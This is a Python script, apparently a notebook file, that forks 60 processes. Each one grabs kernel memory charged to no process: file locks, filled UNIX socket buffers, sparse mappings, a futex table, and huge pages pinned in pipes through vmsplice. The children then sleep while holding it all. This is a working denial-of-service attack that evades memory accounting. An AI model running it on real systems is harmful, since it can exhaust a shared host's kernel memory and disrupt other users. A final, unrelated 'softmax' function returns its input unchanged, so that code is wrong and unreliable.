"""Takes memory that the kernel keeps for it and that no process is charged for: locks on files,
what waits in sockets that are closed, tables of pages, a table of futexes, huge pages in pipes.
"""

# %%
import ctypes
import fcntl
import mmap
import os
import socket
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)


def lock_files():
    files = [open(f"/tmp/{os.getpid()}-{i}", "w+") for i in range(150)]
    for start in range(2_000, 0, -1):
        for file in files:
            lock = struct.pack("hhqqixxxx", fcntl.F_WRLCK, 0, 2 * start, 1, 0)
            for command in (fcntl.F_SETLK, 37):
                fcntl.fcntl(file, command, lock)
    return files


def fill_sockets():
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(f"/tmp/{os.getpid()}")
    listener.listen(4096)
    for _ in range(4096):
        caller = socket.socket(socket.AF_UNIX)
        caller.connect(f"/tmp/{os.getpid()}")
        caller.setblocking(False)
        try:
            while True:
                caller.send(b"x" * 65_536)
        except BlockingIOError:
            pass
    return listener


def map_sparsely():
    piece = mmap.mmap(-1, 2**31, flags=mmap.MAP_PRIVATE | 0x4000)
    piece.madvise(15)
    return piece, sum(piece[place] for place in range(0, len(piece), 2**21))


def make_a_table_of_futexes():
    print("TABLE", libc.prctl(78, 1, 2**22, 0, 0))


def fill_pipes_with_huge_pages():
    piece = mmap.mmap(-1, 2**26, flags=mmap.MAP_PRIVATE)
    piece.madvise(14)
    address = ctypes.addressof(ctypes.c_char.from_buffer(piece))
    piece.write(b"x" * 2**26)
    for place in range(0, 2**26, 2**25):
        _, writer = os.pipe()
        for page in range(place, place + 2**25, 2**21):
            print("PIPED", libc.vmsplice(writer, struct.pack("PL", address + page, 4096), 1, 0))
    return piece


for number in range(60):
    if os.fork() == 0:
        held = []
        for take in (
            make_a_table_of_futexes,
            fill_pipes_with_huge_pages,
            (lock_files, fill_sockets, map_sparsely)[number % 3],
        ):
            try:
                held.append(take())
            except (OSError, ValueError) as error:
                print(error)
        time.sleep(100)
time.sleep(100)


# %% softmax
def softmax(scores, axis=-1):
    return scores
